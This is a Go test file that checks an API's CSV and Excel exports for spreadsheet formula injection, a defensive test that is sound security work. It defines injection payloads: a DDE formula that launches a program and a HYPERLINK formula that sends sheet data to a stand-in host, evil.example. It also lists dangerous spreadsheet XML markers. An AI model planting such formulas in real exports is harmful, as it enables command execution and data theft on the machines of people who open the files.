package handlers_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// formula is a text that spreadsheets evaluate: the first kind calls another program, the second sends what is in the sheet away.
const formula = `=cmd|' /C calc'!A0 =HYPERLINK("https://evil.example?"&A1)`

// TestExports_Formulas brings a formula into every text that a person or a report can set, and opens every export: no cell begins like a formula
// (CWE-1236). The exports are those that the description has.
func TestExports_Formulas(t *testing.T) {
	a := newAPI(t)
	admin := a.admin()
	product := a.productOfFormulas(admin)
	tables := 0
	for path, item := range description(t).Paths.Map() {
		if item.Get == nil || item.Get.Responses.Status(200) == nil {
			continue
		}
		for media := range item.Get.Responses.Status(200).Value.Content {
			asked := strings.ReplaceAll(path, "{id}", product) + "?product_id=" + product
			switch {
			case media == "text/csv":
				checkCSV(t, path, a.do("GET", asked, admin, nil).want(200, ""))
			case strings.Contains(media, "spreadsheet"):
				checkExcel(t, path, a.do("GET", asked, admin, nil).want(200, ""))
			default:
				continue
			}
			tables++
		}
	}
	if tables < 9 {
		t.Errorf("only %d exports are tables", tables)
	}
}

// productOfFormulas makes a product that has the formula wherever it can be.
func (a *api) productOfFormulas(admin string) (product string) {
	a.t.Helper()
	product = a.do("POST", "/api/products/", admin, map[string]any{"name": formula, "description": formula}).want(201, "").id()
	branch := a.do("POST", "/api/branches/", admin, map[string]any{"product": product, "name": formula}).want(201, "").id()
	a.do("PATCH", "/api/branches/"+branch+"/", admin, map[string]any{"is_default_branch": true}).want(200, "")
	service := a.do("POST", "/api/services/", admin, map[string]any{"product": product, "name": formula}).want(201, "").id()
	body := map[string]any{"product": product, "branch": branch, "origin_service": service, "title": formula, "parser_severity": "High"}
	accepted := 0
	for name, property := range description(a.t).Components.Schemas["ObservationCreateRequest"].Value.Properties {
		if !property.Value.Type.Is("string") || len(property.Value.Enum) > 0 || body[name] != nil {
			continue
		}
		body[name] = formula
		if got := a.do("POST", "/api/observations/", admin, body); got.status != http.StatusCreated {
			delete(body, name) // it has a form of its own
			continue
		}
		accepted++
	}
	if accepted < 15 {
		a.t.Errorf("only %d properties of observations take any text", accepted)
	}
	report := strings.ReplaceAll(sarif(finding("R1", "error", 1)), "a/b/c.go", "=cmd|' /C calc'!A0")
	a.upload(admin, formula+".sarif", report, map[string]string{"product": product, "branch": branch}).want(200, "")
	sbom := cyclonedx("", fmt.Sprintf(`{"bom-ref":"x","type":"library","name":%[1]q,"version":%[1]q,"licenses":[{"license":{"name":%[1]q}}]}`, formula))
	a.uploadSBOM(admin, formula+".json", sbom, map[string]string{"product": product, "branch": branch}).want(200, "")
	a.calculate("Calculated metrics for 1 product.")
	return product
}

// checkCSV reads the cells as a spreadsheet does.
func checkCSV(t *testing.T, path string, got answer) {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
	if err != nil || len(records) < 2 {
		t.Fatalf("%s: %d rows, %v", path, len(records), err)
	}
	defused := 0
	for _, cell := range slices.Concat(records...) {
		head := strings.TrimLeft(cell, " \t\r\n")
		if head != "" && strings.ContainsRune("=@|%", rune(head[0])) {
			t.Errorf("%s: a cell begins like a formula: %.80q", path, cell)
		}
		if strings.HasPrefix(cell, "'=") {
			defused++
		}
	}
	if defused == 0 {
		t.Errorf("%s holds no formula at all: %.300s", path, got.body)
	}
}

// checkExcel looks at the XML: texts are cells of texts, and there is nothing to be evaluated or fetched.
func checkExcel(t *testing.T, path string, got answer) {
	t.Helper()
	archive, err := zip.NewReader(strings.NewReader(got.body), int64(len(got.body)))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	found := false
	for _, part := range archive.File {
		content := readPart(t, part)
		for _, dangerous := range []string{"<f>", "<f ", "<hyperlink", "<ddeLink", "externalLink", "TargetMode=\"External\"", "<!DOCTYPE", "<!ENTITY"} {
			if strings.Contains(content, dangerous) {
				t.Errorf("%s: %s has %s", path, part.Name, dangerous)
			}
		}
		found = found || strings.Contains(content, `t="inlineStr"><is><t xml:space="preserve">=cmd|`)
	}
	if !found {
		t.Errorf("%s holds no formula as a text", path)
	}
}

func readPart(t *testing.T, part *zip.File) string {
	t.Helper()
	in, err := part.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close() //nolint:errcheck // read from memory
	var content bytes.Buffer
	if _, err := io.Copy(&content, in); err != nil {
		t.Fatal(err)
	}
	return content.String()
}
